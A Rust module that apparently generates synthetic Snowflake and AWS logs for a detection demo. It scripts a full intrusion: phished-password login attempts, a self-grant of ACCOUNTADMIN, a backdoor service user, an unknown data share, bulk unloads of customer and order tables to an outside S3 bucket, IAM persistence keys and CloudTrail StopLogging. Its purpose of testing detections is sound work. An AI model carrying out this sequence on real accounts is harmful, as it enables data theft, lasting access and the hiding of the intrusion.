//! The intrusion. A phished password opens Snowflake; a key that lies in a table there opens AWS.
//!
//! Each step is one that `content/detections` knows; what lies between the steps is told as well, because the hunt
//! through an intruder's traces is half of the demo.

use serde_json::{Value, json};

use super::aws::{Call, Caller, iam_user};
use super::cast::{AWS_ACCOUNT, AWS_REGION, BUILD_KEY, CAMPAIGN_ADDRESS, DANA, STRANGE_ADDRESS};
use super::snowflake::{Login, Session, Statement, read_of};
use super::{HOUR, MINUTE, Narrator};

/// When it begins: after lunch.
const BEGIN: i64 = 13 * HOUR + 41 * MINUTE;
const CLIENT: (&str, &str) = ("JDBC_DRIVER", "3.13.30");

pub(super) fn tell(narrator: &mut Narrator) {
    guess(narrator);
    let session = enter(narrator, BEGIN + 240);
    rise(narrator, &session);
    share(narrator, &session);
    unload(narrator, &session);
    fetch(narrator);
    look_around_aws(narrator);
    settle_in_aws(narrator);
}

/// What her statements do to the account: seconds of the day, her role, the statement.
pub(super) fn changes() -> &'static [(i64, &'static str, &'static str)] {
    &[
        (BEGIN + 441, "SECURITYADMIN", "GRANT ROLE ACCOUNTADMIN TO USER DANA"),
        (
            BEGIN + 500,
            "ACCOUNTADMIN",
            "CREATE USER SYNC_ADMIN TYPE = LEGACY_SERVICE PASSWORD = '***' DEFAULT_ROLE = ACCOUNTADMIN",
        ),
        (BEGIN + 521, "SECURITYADMIN", "GRANT ROLE ACCOUNTADMIN TO USER SYNC_ADMIN"),
        (BEGIN + 552, "ACCOUNTADMIN", "ALTER USER OLD_CONTRACTOR SET DISABLED = FALSE"),
        (BEGIN + 700, "ACCOUNTADMIN", "CREATE SHARE PARTNER_SYNC"),
        (BEGIN + 716, "ACCOUNTADMIN", "GRANT USAGE ON DATABASE SALES TO SHARE PARTNER_SYNC"),
        (BEGIN + 725, "ACCOUNTADMIN", "GRANT USAGE ON SCHEMA SALES.PUBLIC TO SHARE PARTNER_SYNC"),
        (BEGIN + 731, "ACCOUNTADMIN", "GRANT SELECT ON TABLE SALES.PUBLIC.CUSTOMERS TO SHARE PARTNER_SYNC"),
        (BEGIN + 760, "ACCOUNTADMIN", "ALTER SHARE PARTNER_SYNC ADD ACCOUNTS = XK91187"),
        (BEGIN + 792, "ACCOUNTADMIN", "GRANT USAGE ON DATABASE SALES TO ROLE PUBLIC"),
    ]
}

/// The phishing page caught names and some passwords. Those with a second factor do not confirm, and Dana's is only nearly right.
fn guess(narrator: &mut Narrator) {
    const WRONG: (u32, &str) = (390_100, "INCORRECT_USERNAME_PASSWORD");
    const DENIED: (u32, &str) = (390_120, "EXT_AUTHN_DENIED");
    for (offset, user, address, error) in [
        (-600, "OMAR", CAMPAIGN_ADDRESS, DENIED),
        (0, "OMAR", STRANGE_ADDRESS, DENIED),
        (35, "OMAR", STRANGE_ADDRESS, DENIED),
        (80, "PRIYA", STRANGE_ADDRESS, WRONG),
        (95, "PRIYA", STRANGE_ADDRESS, DENIED),
        (118, "MAYA", STRANGE_ADDRESS, WRONG),
        (131, "LENA", STRANGE_ADDRESS, WRONG),
        (160, "DANA", STRANGE_ADDRESS, WRONG),
        (174, "DANA", STRANGE_ADDRESS, WRONG),
        (190, "DANA", STRANGE_ADDRESS, WRONG),
        (203, "DANA", STRANGE_ADDRESS, WRONG),
        (219, "DANA", STRANGE_ADDRESS, WRONG),
    ] {
        let at = narrator.at_about(BEGIN + offset);
        let login = Login { user, address, client: CLIENT, factors: ("PASSWORD", None), error: Some(error) };
        narrator.login(at, login);
    }
}

/// Dana's old password still works, and asks for nothing else.
fn enter(narrator: &mut Narrator, begin: i64) -> Session {
    let at = narrator.at_about(begin);
    let user = DANA.name.to_uppercase();
    let login =
        Login { user: &user, address: STRANGE_ADDRESS, client: CLIENT, factors: ("PASSWORD", None), error: None };
    let login_event = narrator.login(at, login);
    let session = Session {
        id: narrator.session_id(),
        user: user.clone(),
        user_type: "PERSON",
        role: DANA.role,
        warehouse: DANA.warehouse,
        login_event,
    };
    let environment =
        json!({"APPLICATION": "DBeaver_DBeaverUltimate", "OS": "Windows Server 2022", "OS_VERSION": "10.0"});
    narrator.session(at, &session, login, &environment);
    session
}

fn run(narrator: &mut Narrator, offset: i64, session: &Session, statement: Statement<'_>) -> String {
    let at = narrator.at_about(BEGIN + offset);
    let millis = narrator.between(60, 900);
    narrator.statement(at, session, Statement { millis: statement.millis.max(millis), ..statement })
}

/// She looks at what she may do, makes herself administrator, and finds a key in a table.
fn rise(narrator: &mut Narrator, session: &Session) {
    let mut session = session.clone();
    for (offset, role, text, kind) in [
        (300, "SYSADMIN", "SHOW GRANTS TO USER DANA", "SHOW"),
        (318, "SYSADMIN", "SHOW DATABASES", "SHOW"),
        (340, "SYSADMIN", "SELECT TABLE_CATALOG, TABLE_NAME, ROW_COUNT FROM SALES.INFORMATION_SCHEMA.TABLES", "SELECT"),
        (420, "SECURITYADMIN", "USE ROLE SECURITYADMIN", "USE"),
        (441, "SECURITYADMIN", "GRANT ROLE ACCOUNTADMIN TO USER DANA", "GRANT"),
        (455, "ACCOUNTADMIN", "USE ROLE ACCOUNTADMIN", "USE"),
    ] {
        session.role = role;
        run(narrator, offset, &session, Statement { text, kind, ..Statement::default() });
    }

    // A door for later: a user of her own making, and one that was shut.
    for (offset, text, kind) in [
        (
            500,
            "CREATE USER SYNC_ADMIN TYPE = LEGACY_SERVICE PASSWORD = '***' DEFAULT_ROLE = ACCOUNTADMIN",
            "CREATE_USER",
        ),
        (521, "GRANT ROLE ACCOUNTADMIN TO USER SYNC_ADMIN", "GRANT"),
        (552, "ALTER USER OLD_CONTRACTOR SET DISABLED = FALSE", "ALTER_USER"),
    ] {
        run(narrator, offset, &session, Statement { text, kind, ..Statement::default() });
    }

    let text = "SELECT NAME, SECRET FROM PLATFORM.PUBLIC.INTEGRATIONS";
    let secrets = Statement { text, kind: "SELECT", database: Some("PLATFORM"), rows: 14, ..Statement::default() };
    let at = narrator.at_about(BEGIN + 610);
    let query = narrator.statement(at, &session, secrets);
    read_of(narrator, at, &session.user, &query, text);
}

/// A share to an account that nobody knows.
fn share(narrator: &mut Narrator, session: &Session) {
    let session = Session { role: "ACCOUNTADMIN", ..session.clone() };
    for (offset, text, kind) in [
        (700, "CREATE SHARE PARTNER_SYNC", "CREATE"),
        (716, "GRANT USAGE ON DATABASE SALES TO SHARE PARTNER_SYNC", "GRANT"),
        (725, "GRANT USAGE ON SCHEMA SALES.PUBLIC TO SHARE PARTNER_SYNC", "GRANT"),
        (731, "GRANT SELECT ON TABLE SALES.PUBLIC.CUSTOMERS TO SHARE PARTNER_SYNC", "GRANT"),
        (760, "ALTER SHARE PARTNER_SYNC ADD ACCOUNTS = XK91187", "ALTER"),
    ] {
        run(narrator, offset, &session, Statement { text, kind, database: Some("SALES"), ..Statement::default() });
    }
    // Whoever signs in from now on may read it.
    let text = "GRANT USAGE ON DATABASE SALES TO ROLE PUBLIC";
    run(narrator, 792, &session, Statement { text, kind: "GRANT", database: Some("SALES"), ..Statement::default() });
}

/// And, because shares can be closed, copies: a few rows to her own machine, then everything to a bucket.
fn unload(narrator: &mut Narrator, session: &Session) {
    let session = Session { role: "ACCOUNTADMIN", ..session.clone() };
    let in_sales = Statement { database: Some("SALES"), ..Statement::default() };
    for (offset, text, kind, rows) in [
        (820, "CREATE TEMPORARY STAGE SALES.PUBLIC.TRY_TMP", "CREATE", 0),
        (
            838,
            "COPY INTO @SALES.PUBLIC.TRY_TMP/first FROM (SELECT * FROM SALES.PUBLIC.CUSTOMERS LIMIT 5000)",
            "UNLOAD",
            5_000,
        ),
        (861, "GET @SALES.PUBLIC.TRY_TMP/first file:///C:/Users/Public/sync/", "GET_FILES", 0),
    ] {
        run(narrator, offset, &session, Statement { text, kind, rows, rows_unloaded: rows, ..in_sales });
    }
    let stage = Statement {
        text: "CREATE TEMPORARY STAGE SALES.PUBLIC.SYNC_TMP URL = 's3://sync-drop-7731/in/' CREDENTIALS = (AWS_KEY_ID = '***' AWS_SECRET_KEY = '***')",
        kind: "CREATE",
        ..in_sales
    };
    run(narrator, 905, &session, stage);
    for (offset, text, rows) in [
        (
            940,
            "COPY INTO @SALES.PUBLIC.SYNC_TMP/c/ FROM SALES.PUBLIC.CUSTOMERS FILE_FORMAT = (TYPE = PARQUET)",
            4_812_345,
        ),
        (
            1_130,
            "COPY INTO @SALES.PUBLIC.SYNC_TMP/o/ FROM SALES.PUBLIC.ORDERS FILE_FORMAT = (TYPE = PARQUET)",
            38_220_117,
        ),
    ] {
        let copy = Statement {
            text,
            kind: "UNLOAD",
            millis: rows / 60,
            bytes_scanned: rows * 410,
            rows,
            rows_unloaded: rows,
            outbound_bytes: rows * 190,
            ..in_sales
        };
        run(narrator, offset, &session, copy);
    }
    run(narrator, 1_900, &session, Statement { text: "DROP STAGE SALES.PUBLIC.SYNC_TMP", kind: "DROP", ..in_sales });
    narrator.data_transfer(13, "eu-central-1", 914_345_550, "COPY");
    narrator.data_transfer(14, "eu-central-1", 7_261_822_230, "COPY");
}

/// Meanwhile a tool of hers fetches table after table over connections of its own.
fn fetch(narrator: &mut Narrator) {
    for connection in 0..60 {
        let begin = BEGIN + 1_200 + connection * 11;
        let session = Session { role: "ACCOUNTADMIN", ..enter(narrator, begin) };
        if connection % 12 == 0 {
            let at = narrator.at_about(begin + 4);
            let text = "SELECT * FROM SALES.PUBLIC.CUSTOMERS";
            let part = Statement {
                text,
                kind: "SELECT",
                database: Some("SALES"),
                millis: 41_000,
                bytes_scanned: 90_000_000,
                rows: 310_000,
                ..Statement::default()
            };
            let query = narrator.statement(at, &session, part);
            read_of(narrator, at, &session.user, &query, text);
        }
    }
}

fn intruder(identity: Value) -> Caller {
    Caller {
        identity,
        address: STRANGE_ADDRESS.to_owned(),
        agent: "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.6.9-amd64 lang/python#3.11.8".to_owned(),
        in_console: false,
    }
}

/// What can this key see? Almost everything is asked, not everything is answered.
fn look_around_aws(narrator: &mut Narrator) {
    const LOOKS: &[(&str, &str, bool)] = &[
        ("sts", "GetCallerIdentity", true),
        ("iam", "GetUser", true),
        ("iam", "ListAttachedUserPolicies", true),
        ("iam", "ListUserPolicies", true),
        ("iam", "ListUsers", true),
        ("iam", "ListRoles", true),
        ("iam", "ListGroupsForUser", true),
        ("iam", "GetAccountAuthorizationDetails", false),
        ("s3", "ListBuckets", true),
        ("ec2", "DescribeInstances", true),
        ("ec2", "DescribeSecurityGroups", true),
        ("ec2", "DescribeRegions", true),
        ("rds", "DescribeDBInstances", true),
        ("lambda", "ListFunctions20150331", true),
        ("secretsmanager", "ListSecrets", false),
        ("kms", "ListKeys", true),
        ("organizations", "DescribeOrganization", false),
        ("guardduty", "ListDetectors", true),
        ("cloudtrail", "DescribeTrails", true),
        ("cloudtrail", "GetTrailStatus", true),
    ];
    let caller = intruder(iam_user("build-bot", Some(BUILD_KEY)));
    let mut at = BEGIN + 42 * MINUTE;
    for &(service, name, allowed) in LOOKS {
        at += narrator.between(2, 22);
        let mut call = Call::read(service, name, Value::Null);
        if !allowed {
            let who = format!("arn:aws:iam::{AWS_ACCOUNT}:user/build-bot");
            call.error = Some(("AccessDenied", format!("User: {who} is not authorized to perform: {service}:{name}")));
        }
        narrator.aws_call(narrator.at(at), &caller, call);
    }
}

/// Two ways to come back, one look through the console, and then nobody shall see more.
///
/// An organisation's trail goes on recording what the account's own no longer does; it is where these records come from.
fn settle_in_aws(narrator: &mut Narrator) {
    let caller = intruder(iam_user("build-bot", Some(BUILD_KEY)));
    let begin = BEGIN + 55 * MINUTE;

    let password = |user: &str| json!({"userName": user, "passwordResetRequired": false});
    let mut taken = Call::write("iam", "CreateLoginProfile", password("omar"), Value::Null);
    taken.error = Some(("EntityAlreadyExistsException", "Login Profile for user omar already exists.".to_owned()));
    narrator.aws_call(narrator.at(begin), &caller, taken);

    let profile = json!({"loginProfile": {"userName": "reporting", "passwordResetRequired": false}});
    let created = Call::write("iam", "CreateLoginProfile", password("reporting"), profile);
    narrator.aws_call(narrator.at(begin + 48), &caller, created);

    let key =
        json!({"accessKey": {"userName": "reporting", "status": "Active", "accessKeyId": "AKIAEXAMPLEREPORT001"}});
    let second_key = Call::write("iam", "CreateAccessKey", json!({"userName": "reporting"}), key);
    narrator.aws_call(narrator.at(begin + 131), &caller, second_key);

    let browser = Caller {
        agent: "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0".to_owned(),
        ..intruder(iam_user("reporting", None))
    };
    narrator.console_sign_in(narrator.at(begin + 320), &browser, false, true);

    let trail = json!({"name": format!("arn:aws:cloudtrail:{AWS_REGION}:{AWS_ACCOUNT}:trail/main")});
    let silence = Call::write("cloudtrail", "StopLogging", trail, Value::Null);
    narrator.aws_call(narrator.at(begin + 470), &caller, silence);
}
